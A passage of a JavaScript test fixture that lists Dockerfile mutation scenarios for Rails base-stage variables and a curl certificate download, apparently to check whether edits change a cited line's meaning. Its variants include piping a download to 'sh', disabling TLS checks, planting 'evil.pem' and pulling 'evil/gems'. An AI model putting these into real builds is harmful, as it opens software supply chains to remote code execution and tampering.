      'comment above the instruction': ['COPY <<"CONF"', '# The only server.\nCOPY <<"CONF"'],
      'preview gets a step': ['ENV PREVIEW=1\n', 'ENV PREVIEW=1\nRUN true\n'],
      'blank lines between instructions': ['COPY public/', '\n\nCOPY public/'],
    },
  }),

  sceneOf({
    name: 'variables of a base stage',
    path: 'docker/rails.Dockerfile',
    before: RAILS,
    cited: '    BUNDLE_DEPLOYMENT="1" \\',
    text: {
      off: ['BUNDLE_DEPLOYMENT="1"', 'BUNDLE_DEPLOYMENT="0"'],
      'variable in the line above': ['RAILS_ENV="production"', 'RAILS_ENV="development"'],
      'variable in the line below': ['BUNDLE_WITHOUT="development:test"', 'BUNDLE_WITHOUT=""'],
      'one more variable': [
        'BUNDLE_DEPLOYMENT="1" \\',
        'BUNDLE_DEPLOYMENT="1" RAILS_LOG_LEVEL=debug \\',
      ],
      'argument for variable': ['ENV RAILS_ENV', 'ARG RAILS_ENV'],
      'sign lost': ['BUNDLE_DEPLOYMENT="1" \\', 'BUNDLE_DEPLOYMENT="1"'],
      'sign lost above': ['RAILS_ENV="production" \\', 'RAILS_ENV="production"'],
      'a blank in the value': ['"development:test"', '"development: test"'],
    },
    place: {
      'stage renamed': ['AS base\n', 'AS base-unused\n'],
      'moved to the gems': movedBefore(/ENV RAILS_ENV[\s\S]*?test"\n/, 'COPY Gemfile'),
      'a stage in front': ['ENV RAILS_ENV', 'FROM base AS other\nENV RAILS_ENV'],
    },
    unit: {
      'set again below': ['development:test"\n', 'development:test"\nENV BUNDLE_DEPLOYMENT=0\n'],
      'other folder': ['WORKDIR /rails', 'WORKDIR /srv'],
      'settings of bundler': [
        'WORKDIR /rails\n',
        'WORKDIR /rails\nRUN bundle config set deployment false\n',
      ],
    },
    origin: {
      'other version': ['ruby:3.3-slim', 'ruby:2.7-slim'],
      'other image': ['FROM ruby:3.3-slim', 'FROM jruby:9-slim'],
    },
    harmless: {
      'comment between': [
        '    BUNDLE_WITHOUT',
        '    # None of these in production.\n    BUNDLE_WITHOUT',
      ],
      'two lines joined': ['"production" \\\n    BUNDLE_DEP', '"production" BUNDLE_DEP'],
      'app changes': ['VOLUME /rails/storage', 'VOLUME /rails/files'],
    },
  }),

  sceneOf({
    name: 'download with a pipe',
    path: 'docker/rails.Dockerfile',
    before: RAILS,
    cited: DOWNLOAD,
    text: {
      'errors pass': ['curl -fsSL', 'curl -sSL'],
      'no check of the server': ['curl -fsSL', 'curl -kfsSL'],
      'plain http': ['https://example.com', 'http://example.com'],
      'other target': ['tee /etc/ssl/example.pem', 'tee -a /etc/ssl/certs.pem'],
      'run as a script': ['| tee /etc/ssl/example.pem > /dev/null', '| sh'],
      'shell option': ['RUN curl', 'RUN set +o pipefail; curl'],
    },
    place: {
      'stage renamed': ['FROM base AS app', 'FROM base AS app-old'],
      'moved to the gems': both(
        [`${DOWNLOAD}\n`, ''],
        ['COPY Gemfile', `${DOWNLOAD}\nCOPY Gemfile`],
      ),
      twin: below(DOWNLOAD),
    },
    unit: {
      'shell without pipefail': ['"-o", "pipefail", "-c"', '"-c"'],
      'shell removed': ['SHELL ["/bin/bash", "-o", "pipefail", "-c"]\n', ''],
      'settings of curl': above('RUN echo insecure > ~/.curlrc'),
      'certificate replaced': below('COPY evil.pem /etc/ssl/example.pem'),
      'root at the end': ['USER rails:rails', 'USER root'],
      'other gems': ['COPY --from=gems', 'COPY --from=evil/gems'],
    },
    origin: {
      'other stage as image': ['FROM base AS app', 'FROM gems AS app'],
      'other image': ['FROM base AS app', 'FROM ruby:3.3 AS app'],
    },
    harmless: {
      'over two lines': ['cert.pem | tee', 'cert.pem \\\n    | tee'],
      'comment above': above('# The authority of the company.'),
      'gems change': ['COPY Gemfile Gemfile.lock ./', 'COPY Gemfile Gemfile.lock vendor ./'],
      'byte-order mark': withByteOrderMark,
    },
  }),
];
